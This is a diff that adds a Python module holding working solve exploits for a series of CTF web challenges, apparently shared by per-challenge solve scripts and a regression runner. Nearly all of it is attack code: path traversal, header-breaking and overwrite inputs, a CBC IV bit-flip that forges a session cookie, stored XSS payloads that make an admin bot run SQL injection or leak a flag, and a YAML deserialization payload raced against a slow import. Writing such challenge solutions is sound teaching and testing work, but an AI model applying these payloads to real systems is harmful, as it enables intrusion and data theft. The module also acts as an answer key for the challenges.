@@ -0,0 +1,207 @@
+"""
+The exploit of every challenge, written once for both the solve.py
+scripts and the regression runner.
+
+Each solve_* coroutine takes an httpx.AsyncClient whose base_url is the
+app and returns the page the flag should be on. Waits are on the event
+itself (the flag appearing, the import finishing) rather than fixed
+sleeps. The solve.py scripts run them through solve():
+
+    uv run 05/solve.py 127.0.0.1:8080
+
+The scripts used to be standalone and need only requests. They now import
+this module from ../serving, so they run from a checkout of the whole
+repository, and they need httpx, which their inline script metadata lists
+for uv run.
+"""
+
+import asyncio
+import base64
+import lzma
+import re
+import secrets
+import sys
+import time
+import urllib.parse
+
+import httpx
+
+FLAG_RE = re.compile(r"pitfalls\{[^}]+\}")
+
+
+async def until(check, timeout, interval=0.05):
+    """Await `check()` until it returns something truthy, and return that."""
+    deadline = time.monotonic() + timeout
+    while True:
+        result = await check()
+        if result:
+            return result
+        if time.monotonic() > deadline:
+            raise TimeoutError
+        await asyncio.sleep(interval)
+
+
+async def wait_for_flag(client, path, timeout=60):
+    """Fetch `path` until a flag shows up on it; returns the page."""
+
+    async def check():
+        page = (await client.get(path)).text
+        return page if FLAG_RE.search(page) else None
+
+    return await until(check, timeout, interval=0.2)
+
+
+async def register(client, username):
+    account = {"username": username, "password": secrets.token_hex(6)}
+    await client.post("/register", data=account)
+    await client.post("/login", data=account)
+
+
+async def solve_00(client):
+    response = await client.post(
+        "/get-flag", params={"seriously": "true"}, data={"please": "pretty please"}
+    )
+    return response.text
+
+
+async def solve_01_confidentiality(client):
+    # Note files live in sessions/<id>/, three levels below confidential.txt
+    response = await client.get("/note/..%2F..%2F..%2Fconfidential.txt")
+    return response.text
+
+
+async def solve_01_availability(client):
+    # A title with a newline breaks parsing the header of every note
+    await client.post(
+        "/create", data={"title": "evil\nbreak", "author": "tester", "content": "x"}
+    )
+    return (await client.get("/check_broken_availability")).text
+
+
+async def solve_01_integrity(client):
+    # Same title as the default note, so it is overwritten
+    await client.post(
+        "/create",
+        data={
+            "title": "My_Family_Tea_Recipe",
+            "author": "John Doe",
+            "content": "This is some example content for the post.",
+        },
+    )
+    return (await client.get("/check_broken_integrity")).text
+
+
+async def solve_02(client):
+    course_code, target = "QSWI205", "NSWI205"
+    response = await client.post(
+        "/create",
+        data={
+            "code": course_code,
+            "name": "Introduction to Computer Science",
+            "sylabus": "Basic programming, algorithms, and data structures",
+            "private_note": "Internal notes for staff only",
+        },
+    )
+    password = re.search(r"Your password is: (.*)<", response.text).group(1)
+    await client.post(f"/login/{course_code}", data={"password": password})
+
+    # The cookie is IV + CBC({"courseid": "QSWI205"}) + MAC over the
+    # ciphertext only. The IV is not authenticated, and flipping a bit of
+    # it flips the same bit of the first plaintext block, here the Q at
+    # offset 14
+    cookie = client.cookies["session"]
+    raw = bytearray(base64.urlsafe_b64decode(cookie + "=" * (-len(cookie) % 4)))
+    raw[14] ^= ord(course_code[0]) ^ ord(target[0])
+    client.cookies.clear()
+    client.cookies.set(
+        "session", base64.urlsafe_b64encode(bytes(raw)).rstrip(b"=").decode()
+    )
+    return (await client.get(f"/course/{target}")).text
+
+
+async def solve_03(client):
+    await register(client, f"solver{secrets.token_hex(3)}")
+
+    sql = urllib.parse.quote("1=1 UNION SELECT *,'j','j' FROM flaflaggs")
+    js = f"""
+fetch('/admin?filter={sql}', {{credentials:'include'}})
+.then(r => r.text())
+.then(html => {{
+      const formData = new FormData();
+      formData.append('content', html);
+      fetch('/post/create', {{method: 'POST', credentials: 'include', body: formData}});
+}})
+"""
+    await client.post("/post/create", data={"content": f'<img src=x onerror="{js}">'})
+    post_ids = re.findall(r"/post/(\d+)", (await client.get("/")).text)
+    await client.post(f"/post/{max(map(int, post_ids))}/report")
+    return await wait_for_flag(client, "/")
+
+
+async def solve_04(client):
+    username = f"mario{secrets.token_hex(3)}"
+    await register(client, username)
+
+    expr = (
+        "(fetch('/space?user=admin')"
+        ".then(r=>r.text())"
+        ".then(t=>{"
+        "  var m=t.match(/pitfalls\\{[^}]+\\}/);"
+        "  var flag=m?m[0]:'not_found';"
+        "  var fd=new FormData();"
+        "  fd.append('content', flag);"
+        "  fd.append('h-captcha-response','xxxxx');"
+        f"  fetch('/space/update?user={username}', {{method:'POST', body: fd}});"
+        "}), 0.5)"
+    )
+    note = f"""
+<div>
+  <canvas id="meditationCanvas"></canvas>
+  <input id="visualExpr" type="text" value="{expr}">
+</div>
+<script src="/static/meditation.js"></script>
+<script src="https://js.hcaptcha.com/1/api.js?onload=startMeditation&render=explicit" async defer></script>
+""".strip()
+    await client.post(
+        "/space/update", data={"content": note, "h-captcha-response": "x"}
+    )
+    await client.post("/space/request_guidance")
+    return await wait_for_flag(client, "/space")
+
+
+async def solve_05(client):
+    await register(client, f"solver{secrets.token_hex(3)}")
+
+    # Decompressing and parsing 5 MiB of zeros keeps the import, and with
+    # it the unsafe loader, going for seconds
+    slow = lzma.compress(b"0" * 5 * 2**20)
+    importing = asyncio.create_task(
+        client.post("/import", files={"file": ("slow.yaml.xz", slow)})
+    )
+    payload = {"yaml_input": "!!python/object/apply:os.getenv ['FLAG']"}
+    try:
+        while not importing.done():
+            response = await client.post("/convert", data=payload)
+            if FLAG_RE.search(response.text):
+                return response.text
+            # Paced so the rate limit still has tokens once the import starts
+            retry = float(response.headers.get("Retry-After", 0.02))
+            await asyncio.sleep(retry)
+        return (await importing).text
+    finally:
+        importing.cancel()
+
+
+def solve(exploit, address):
+    """Run `exploit` against the app at `address` (host:port) and print the flag."""
+
+    async def run():
+        async with httpx.AsyncClient(
+            base_url=f"http://{address}", follow_redirects=True, timeout=60
+        ) as client:
+            return await exploit(client)
+
+    found = FLAG_RE.findall(asyncio.run(run()))
+    if not found:
+        sys.exit("Flag not found.")
+    print(found[0])